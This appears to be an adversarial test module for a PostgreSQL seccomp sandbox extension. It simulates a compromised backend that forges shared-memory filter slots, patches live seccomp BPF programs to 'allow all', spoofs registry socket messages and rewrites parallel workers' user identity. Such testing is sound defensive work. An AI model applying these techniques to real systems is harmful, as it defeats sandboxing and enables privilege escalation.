/*
 * forge.c
 *		Plays a compromised backend: native code in a session that writes
 *		shared memory to make its parallel workers (or new sessions) install
 *		less than it enforces itself.
 *
 * forge(mode) returns a line that says what it did:
 *   'show'       the slot of this backend in "pgseccomp leaders" (a session
 *                writes it with its first client filter; every other mode
 *                takes it over)
 *   'base0'      base_program 0, no client programs
 *   'base0ff'    base_program 0, no client programs, handle 0xffffffff
 *   'base9999'   base_program 9999, no client programs
 *   'basenext'   base_program one above what the slot says, no client programs
 *   'base:N'     base_program N, no client programs
 *   'badhandle'  the slot's base_program kept, one client program in a DSM
 *                segment that does not exist (handle 0xffffffff)
 *   'dsm'        the slot's base_program kept, one client program in a DSM
 *                segment made here: a single RET ALLOW
 *   'scan'       every libseccomp BPF program found in the shared mappings of
 *                this process overwritten with RET ALLOW
 *   'registry:claim:N'    a second announcement on the registry socket
 *                (c/registry.c): program N, as the session's owner
 *   'registry:shutdown'   the registry socket shut down for writing
 *   'other:PID:base:N'    the slot of another backend (taken over if it
 *                wrote none): base_program N
 *   'other:PID:noclients' the slot of another backend: its client programs
 *                dropped (no DSM segment)
 *
 * forge_parallel(claim, as_user, path) starts one parallel worker whose
 * entry point is in this library (at path), after claiming program claim
 * in the slot (-1:
 * the slot is kept) and writing role as_user (0: kept) where the worker
 * reads whom it runs as. The worker logs, from this library's _PG_init and
 * from its entry point, "forge worker <where>: readlink <result>" for the
 * first tablespace link.
 */
#include "postgres.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/filter.h>
#include <linux/seccomp.h>

#include <dirent.h>
#include <errno.h>
#include <sys/socket.h>

#include "access/parallel.h"
#include "access/xact.h"
#include "fmgr.h"
#include "lib/stringinfo.h"
#include "miscadmin.h"
#include "storage/dsm.h"
#include "storage/procarray.h"
#include "storage/shm_toc.h"
#include "storage/shmem.h"
#include "utils/builtins.h"

/* The slot index of this process, as the extension has it in each major. */
#include "../../c/compat.h"

PG_MODULE_MAGIC;

/* The start of PostgreSQL 15's FixedParallelState (access/transam/parallel.c). */
typedef struct ForgedFixedState
{
	Oid			database_id;
	Oid			authenticated_user_id;
	Oid			current_user_id;
	Oid			outer_user_id;
} ForgedFixedState;

#define FORGED_KEY_FIXED	UINT64CONST(0xFFFFFFFFFFFF0001)

PG_FUNCTION_INFO_V1(forge);

/* As c/parallel.c lays out a slot, indexed by PGSECCOMP_MY_SLOT. */
typedef struct ForgedSlot
{
	int32		pid;
	int32		base_program;
	int32		nclients;
	uint32		dsm_handle;
} ForgedSlot;

static ForgedSlot *
leaders(void)
{
	bool		found;
	Size		size = (Size) PGSECCOMP_NSLOTS * sizeof(ForgedSlot);
	ForgedSlot *l = ShmemInitStruct("pgseccomp leaders", size, &found);

	if (!found)
		elog(ERROR, "forge: \"pgseccomp leaders\" did not exist");
	return l;
}

static char *
show(ForgedSlot *s)
{
	return psprintf("pid %d base %d nclients %d handle %u",
					s->pid, s->base_program, s->nclients, s->dsm_handle);
}

/* A libseccomp program starts "ld [4]; jeq #AUDIT_ARCH_X86_64". */
static const unsigned char ld_arch[8] = {0x20, 0, 0, 0, 4, 0, 0, 0};
static const unsigned char arch_k[4] = {0x3e, 0, 0, 0xc0};

static int
patch_range(unsigned char *start, unsigned char *end)
{
	int			patched = 0;
	unsigned char *p;

	for (p = start; p + 16 <= end; p += 4)
	{
		struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);

		if (memcmp(p, ld_arch, 8) != 0 || p[8] != 0x15 || p[9] != 0 ||
			memcmp(p + 12, arch_k, 4) != 0)
			continue;
		/* Both first instructions: the program allows everything. */
		memcpy(p, &allow, sizeof(allow));
		memcpy(p + 8, &allow, sizeof(allow));
		patched++;
	}
	return patched;
}

static char *
scan(void)
{
	FILE	   *f = fopen("/proc/self/maps", "r");
	char		line[4096];
	StringInfoData out;
	int			total = 0;
	int			mappings = 0;

	if (f == NULL)
		elog(ERROR, "forge: /proc/self/maps: %m");
	initStringInfo(&out);
	while (fgets(line, sizeof(line), f))
	{
		unsigned long lo,
					hi;
		char		perms[8];
		char		path[4096] = "";
		int			n;

		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %4095[^\n]", &lo, &hi, perms, path) < 3)
			continue;
		if (perms[0] != 'r' || perms[1] != 'w' || perms[3] != 's')
			continue;
		/* Anonymous shared memory, SysV, DSM segments and memfds. */
		if (!(path[0] == '\0' || strncmp(path, "/dev/zero", 9) == 0 ||
			  strncmp(path, "/SYSV", 5) == 0 ||
			  strncmp(path, "/dev/shm/PostgreSQL.", 20) == 0 ||
			  strncmp(path, "/memfd:", 7) == 0))
			continue;
		mappings++;
		n = patch_range((unsigned char *) lo, (unsigned char *) hi);
		if (n > 0)
			appendStringInfo(&out, " %s:%d", path[0] ? path : "[anon]", n);
		total += n;
	}
	fclose(f);
	return psprintf("scanned %d shared mappings, patched %d programs:%s",
					mappings, total, out.data);
}

/* The end of the registry socket this process inherited: a connected AF_UNIX datagram socket. */
static int
registry_socket(void)
{
	int			fd;

	for (fd = 0; fd < 1024; fd++)
	{
		int			type = 0,
					domain = 0;
		socklen_t	len = sizeof(int);
		struct sockaddr_storage peer;
		socklen_t	peer_len = sizeof(peer);

		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0 && type == SOCK_DGRAM &&
			getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len) == 0 && domain == AF_UNIX &&
			getpeername(fd, (struct sockaddr *) &peer, &peer_len) == 0)
			return fd;
	}
	elog(ERROR, "forge: no registry socket");
	return -1;
}

static char *
forge_registry(const char *mode)
{
	int			fd = registry_socket();

	if (strncmp(mode, "claim:", 6) == 0)
	{
		/* c/registry.c's Announcement */
		struct
		{
			int32		program;
			char		owner[NAMEDATALEN + 3];
		}			said;

		memset(&said, 0, sizeof(said));
		said.program = atoi(mode + 6);
		strlcpy(said.owner, "S", sizeof(said.owner));
		if (send(fd, &said, sizeof(said), 0) != sizeof(said))
			elog(ERROR, "forge: send: %m");
		return psprintf("announced program %d on fd %d", said.program, fd);
	}
	if (strcmp(mode, "shutdown") == 0)
	{
		if (shutdown(fd, SHUT_WR) != 0)
			elog(ERROR, "forge: shutdown: %m");
		return psprintf("shut down fd %d", fd);
	}
	elog(ERROR, "forge: unknown mode \"registry:%s\"", mode);
	return NULL;
}

Datum
forge(PG_FUNCTION_ARGS)
{
	char	   *mode = text_to_cstring(PG_GETARG_TEXT_PP(0));
	ForgedSlot *s = &leaders()[PGSECCOMP_MY_SLOT];
	char	   *before;

	if (strncmp(mode, "registry:", 9) == 0)
		PG_RETURN_TEXT_P(cstring_to_text(forge_registry(mode + 9)));
	if (strncmp(mode, "other:", 6) == 0)
	{
		int			pid = atoi(mode + 6);
		char	   *rest = strchr(mode + 6, ':');
		PGPROC	   *proc;
		int			i;

		s = NULL;
		for (i = 0; i < PGSECCOMP_NSLOTS && s == NULL; i++)
			if (leaders()[i].pid == pid)
				s = &leaders()[i];
		if (s == NULL && (proc = BackendPidGetProc(pid)) != NULL)
		{
			/* It wrote no slot: take the one its workers will read. */
			s = &leaders()[PGSECCOMP_PROC_SLOT(proc)];
			s->pid = pid;
		}
		if (s == NULL || rest == NULL)
			elog(ERROR, "forge: no slot of process %d", pid);
		before = show(s);
		mode = rest + 1;
		if (strcmp(mode, "noclients") == 0)
		{
			s->nclients = 0;
			s->dsm_handle = DSM_HANDLE_INVALID;
		}
		else if (strncmp(mode, "base:", 5) == 0)
			s->base_program = atoi(mode + 5);
		else
			elog(ERROR, "forge: unknown mode \"%s\"", mode);
		PG_RETURN_TEXT_P(cstring_to_text(psprintf("%s -> %s", before, show(s))));
	}
	before = show(s);
	if (strcmp(mode, "show") == 0)
		PG_RETURN_TEXT_P(cstring_to_text(before));
	/* A session writes its slot with its first client filter: take it. */
	s->pid = MyProcPid;
	if (strcmp(mode, "base0") == 0 || strcmp(mode, "base0ff") == 0 ||
		strcmp(mode, "base9999") == 0 || strcmp(mode, "basenext") == 0)
	{
		s->base_program = strncmp(mode, "base0", 5) == 0 ? 0 :
			strcmp(mode, "base9999") == 0 ? 9999 : s->base_program + 1;
		s->nclients = 0;
		s->dsm_handle = strcmp(mode, "base0ff") == 0 ? 0xffffffff : DSM_HANDLE_INVALID;
	}
	else if (strncmp(mode, "base:", 5) == 0)
	{
		s->base_program = atoi(mode + 5);
		s->nclients = 0;
		s->dsm_handle = DSM_HANDLE_INVALID;
	}
	else if (strcmp(mode, "badhandle") == 0)
	{
		s->nclients = 1;
		s->dsm_handle = 0xffffffff;
	}
	else if (strcmp(mode, "dsm") == 0)
	{
		struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
		int32		count = 1;
		int32		ninsns = 1;
		dsm_segment *seg = dsm_create(sizeof(int32) * 2 + sizeof(allow), 0);
		char	   *p = dsm_segment_address(seg);

		memcpy(p, &count, sizeof(int32));
		memcpy(p + sizeof(int32), &ninsns, sizeof(int32));
		memcpy(p + 2 * sizeof(int32), &allow, sizeof(allow));
		dsm_pin_mapping(seg);
		s->nclients = 1;
		s->dsm_handle = dsm_segment_handle(seg);
	}
	else if (strcmp(mode, "scan") == 0)
		PG_RETURN_TEXT_P(cstring_to_text(psprintf("%s; %s", before, scan())));
	else
		elog(ERROR, "forge: unknown mode \"%s\"", mode);
	PG_RETURN_TEXT_P(cstring_to_text(psprintf("%s -> %s", before, show(s))));
}

/* readlink of the first link in pg_tblspc, logged. */
static void
probe_readlink(const char *where)
{
	DIR		   *dir = opendir("pg_tblspc");
	struct dirent *de;
	char		path[MAXPGPATH];
	char		target[MAXPGPATH];
	const char *result = "no link";

	while (dir != NULL && (de = readdir(dir)) != NULL)
	{
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "pg_tblspc/%s", de->d_name);
		result = readlink(path, target, sizeof(target)) >= 0 ? "ok" : strerror(errno);
		break;
	}
	if (dir != NULL)
		closedir(dir);
	elog(LOG, "forge worker %s: readlink %s", where, result);
}

void		_PG_init(void);

void
_PG_init(void)
{
	if (IsParallelWorker())
		probe_readlink("_PG_init");
}

PGDLLEXPORT void forge_worker_main(dsm_segment *seg, shm_toc *toc);

void
forge_worker_main(dsm_segment *seg, shm_toc *toc)
{
	probe_readlink("main");
}

PG_FUNCTION_INFO_V1(forge_parallel);

Datum
forge_parallel(PG_FUNCTION_ARGS)
{
	int32		claim = PG_GETARG_INT32(0);
	Oid			as_user = PG_GETARG_OID(1);
	char	   *library = text_to_cstring(PG_GETARG_TEXT_PP(2));
	ParallelContext *pcxt;

	if (claim >= 0)
	{
		leaders()[PGSECCOMP_MY_SLOT].base_program = claim;
		leaders()[PGSECCOMP_MY_SLOT].pid = MyProcPid;
	}
	EnterParallelMode();
	pcxt = CreateParallelContext(library, "forge_worker_main", 1);
	InitializeParallelDSM(pcxt);
	if (as_user != InvalidOid)
	{
		ForgedFixedState *fps = shm_toc_lookup(pcxt->toc, FORGED_KEY_FIXED, false);

		fps->authenticated_user_id = fps->current_user_id = fps->outer_user_id = as_user;
	}
	LaunchParallelWorkers(pcxt);
	WaitForParallelWorkersToFinish(pcxt);
	DestroyParallelContext(pcxt);
	ExitParallelMode();
	PG_RETURN_TEXT_P(cstring_to_text(psprintf("%d workers launched", pcxt->nworkers_launched)));
}
